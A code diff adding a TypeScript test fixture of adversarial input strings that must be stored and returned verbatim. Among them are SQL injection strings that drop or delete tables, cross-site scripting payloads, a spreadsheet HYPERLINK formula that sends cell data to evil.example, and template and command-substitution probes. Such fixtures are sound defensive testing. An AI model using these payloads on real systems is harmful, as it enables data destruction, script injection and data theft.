@@ -1,0 +1,23 @@
+/** Text that is valid and must come back exactly as typed, and never run anywhere. */
+export const NASTY: string[] = [
+  "'; DROP TABLE feedback; --",
+  "Robert'); DELETE FROM events WHERE ('1'='1",
+  '" OR 1=1 -- ',
+  '<script>window.__pwned = 1</script>',
+  '<img src=x onerror="window.__pwned=1">',
+  '</textarea><svg onload=window.__pwned=1>',
+  '&lt;b&gt; &amp; &#x3C;script&#x3E;',
+  'Bidi \u202Eevil.exe\u202C and \u2067isolate\u2069 and \u200F rtl mark',
+  'Emoji 🚀👩🏽‍💻🏳️‍🌈 and ZWJ \u200D join, 𝕌𝕟𝕚𝕔𝕠𝕕𝕖',
+  'Control chars \u0001\u0002\u0007\u0008\u001B[31mred\u001B[0m\u007F tab\tnewline\ncarriage\r',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+2',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  'Comma, "quotes" and\nnew lines',
+  '${process.exit(1)} {{7*7}} `id`',
+  '\\u0000 written out, not a NUL; back\\slash',
+  'Ω≈ç√∫˜µ≤≥÷ 田中さんにあげて下さい مرحبا بالعالم',
+  'Zalgo t̶̢̧̛e̷̡̛x̸̢̛t̵̛̛',
+];
